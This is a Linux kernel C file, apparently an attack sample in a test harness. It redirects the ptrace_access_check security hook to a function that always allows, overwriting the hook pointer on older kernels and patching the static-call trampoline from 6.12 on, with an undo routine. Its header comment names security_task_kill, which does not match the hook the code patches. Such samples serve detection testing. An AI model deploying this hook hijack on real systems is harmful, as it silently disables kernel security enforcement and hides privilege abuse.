// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* What is called at a security hook (security_task_kill) leads to a function that allows all. */
#include "attack.h"

#if LINUX_VERSION_CODE < KERNEL_VERSION(6, 12, 0)
#include <linux/lsm_hooks.h>

static struct security_hook_list *hook;
static void *original;

static int allows(void)
{
	return 0;
}

static int attack(void)
{
	struct security_hook_heads *heads = (void *)symbol("security_hook_heads");
	void *ours = allows;

	if (!heads || hlist_empty(&heads->ptrace_access_check))
		return -ENOENT;
	hook = hlist_entry(heads->ptrace_access_check.first, struct security_hook_list, list);
	original = *(void **)&hook->hook;
	write_protected(&hook->hook, &ours, sizeof(ours));
	return 0;
}

static void undo(void)
{
	write_protected(&hook->hook, &original, sizeof(original));
}
#else
/* From 6.12 on a hook is a static call: its trampoline is what an attacker patches. */
static u8 *place;
static u8 original[5];

static int allows(void)
{
	return 0;
}

static int attack(void)
{
	u8 ours[5] = {0xe9};
	s32 to;

	place = (u8 *)symbol("__SCT__lsm_static_call_ptrace_access_check_0");
	if (!place)
		place = (u8 *)symbol("__SCT__lsm_static_call_ptrace_access_check_1");
	if (!place)
		return -ENOENT;
	to = (unsigned long)allows - ((unsigned long)place + 5);
	memcpy(ours + 1, &to, 4);
	memcpy(original, place, sizeof(original));
	write_protected(place, ours, sizeof(ours));
	return 0;
}

static void undo(void)
{
	write_protected(place, original, sizeof(original));
}
#endif

ATTACK("a security hook that leads elsewhere");
